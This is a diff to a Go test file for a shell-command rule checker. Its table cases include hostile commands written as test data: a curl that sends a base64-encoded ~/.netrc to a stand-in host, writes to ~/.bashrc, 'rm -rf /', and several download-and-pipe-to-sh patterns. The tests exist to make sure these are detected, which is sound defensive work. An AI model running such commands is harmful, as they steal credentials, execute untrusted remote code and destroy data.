@@ -160,6 +160,16 @@ func TestShellRulesExact(t *testing.T) {
 		{"curl -d \"$(base64 < ~/.netrc | tr a b)\" https://x.example/u", []string{exfil}},
 		{"curl -d \"$(base64 < ~/.netrc |& tr a b)\" https://x.example/u", []string{exfil}},
 		{"echo x | tee ~/.bashrc /tmp/log", []string{startup}},
+		{"curl -s https://x.example/ping && sh", nil},
+		{dl + " |& sh", []string{pipe}},
+		{"x=1 | sh", nil},
+		{dl + " | sudo -u", nil},
+		{dl + " | sh -c 'echo hi'", nil},
+		{"curl https://x.example/u -o", nil},
+		{"python3 tool.py " + shq(dl+" | sh"), nil},
+		{"curl -s https://x.example/get.sh -O\nsh get.sh", []string{pipe}},
+		{"sh -c " + shq("curl -o i.sh https://x.example/i.sh") + "\nsh i.sh", []string{pipe}},
+		{"a=1\nsh -c " + shq("curl -o i.sh https://x.example/i.sh") + "\nsh i.sh", []string{pipe}},
 		// Deletes.
 		{"rm -rf /", []string{rmrf}},
 		{"rm -r /etc/", []string{rmrf}},
@@ -228,7 +238,7 @@ func TestShellMessages(t *testing.T) {
 			t.Errorf("%q: not reported", tc.body)
 			continue
 		}
-		if lineOf(d) != tc.line || !strings.Contains(d.Message, "(\""+tc.ex+"\")") || strings.Contains(d.Message, "matches") {
+		if lineOf(d) != tc.line || !strings.Contains(d.Message, "(\""+tc.ex+"\"): download the file, pin its checksum") || strings.Contains(d.Message, "matches") {
 			t.Errorf("%q: %s, want line %d quoting %q", tc.body, d.Message, tc.line, tc.ex)
 		}
 	}
